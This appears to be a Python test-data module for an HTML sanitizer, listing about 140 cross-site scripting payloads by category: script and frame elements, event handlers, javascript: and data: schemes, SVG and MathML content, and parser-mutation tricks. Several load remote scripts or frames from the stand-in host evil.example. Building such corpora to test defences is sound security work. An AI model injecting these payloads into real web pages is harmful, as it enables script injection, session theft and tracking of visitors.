"""Markup that would act if it were shown as it stands: tags, handlers, schemes, other languages inside HTML, and what parsers move around (mutation)."""

from __future__ import annotations

ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script >", "<script\n>alert(1)</script\t>", "<<script>alert(1);//<</script>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>", "<object><param name=src value=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>", "<base href=javascript:alert(1)//>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>", "<link rel=preload as=script href=//evil.example>", "<style>@import '//evil.example/x.css'</style>", "<style>body{background:url(javascript:alert(1))}</style>", "<style><img src=x onerror=alert(1)></style>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<form><button formaction=javascript:alert(1)>x</button></form>", "<form id=f></form><button form=f formaction=javascript:alert(1)>x", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1) type=submit>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><script>alert(1)</script></noscript>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<listing><img src=x onerror=alert(1)></listing>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>", "<portal src=//evil.example></portal>", "<slot onslotchange=alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example></layer>", "<xml src=//evil.example></xml>", "<marquee onstart=alert(1)>x</marquee>", "<blink onclick=alert(1)>x</blink>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img src=x onerror\n=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=x:x onerror=alert&#40;1&#41;>", "<img \x00src=x onerror=alert(1)>", "<img src=x onerror=\x0calert(1)>",
    '<img """><script>alert(1)</script>">', "<img src=x srcset='x onerror=alert(1)'>", "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<p onclick=alert(1)>x</p>", "<p onmouseover=alert(1) style='position:fixed;inset:0'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>", "<p style='behavior:url(x)'>x</p>", "<p style='width:expression(alert(1))'>x</p>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>", "<video src=x onerror=alert(1) autoplay>", "<audio src=x onerror=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>", "<a onfocus=alert(1) tabindex=1 autofocus>x</a>", "<b onanimationstart=alert(1) style='animation:x'>x</b>", "<p onpointerrawupdate=alert(1)>x</p>", "<time onbeforematch=alert(1) hidden=until-found>x</time>", "<a ping=//evil.example href=//ok.example>x</a>", "<img src=//evil.example/t.gif width=1 height=1>",
)  # fmt: skip
SCHEMES = (
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=livescript:alert(1)>x</a>", "<a href=file:///etc/passwd>x</a>", "<a href=blob:https://a.example/1>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>", "<a xlink:href=javascript:alert(1)>x</a>", "<a href='//evil.example\\@ok.example'>x</a>",
    "<img src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<del cite=javascript:alert(1)>x</del>", "<area href=javascript:alert(1)>", "<math href=javascript:alert(1)>x</math>",
)  # fmt: skip
FOREIGN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
)  # fmt: skip
MUTATION = (
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<table><td><style></table><img src=x onerror=alert(1)></style>", "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "]]><script>alert(1)</script>", "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>", "<textarea></textarea><img src=x onerror=alert(1)>", "<select><template><img src=x onerror=alert(1)></template></select>", "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
    "<a title='\"><img src=x onerror=alert(1)>' href=//ok.example>x</a>", "\"><script>alert(1)</script>", "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "<b><p><script>alert(1)</script></b></p>", "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
)  # fmt: skip
PAYLOADS = (*ELEMENTS, *HANDLERS, *SCHEMES, *FOREIGN, *MUTATION)
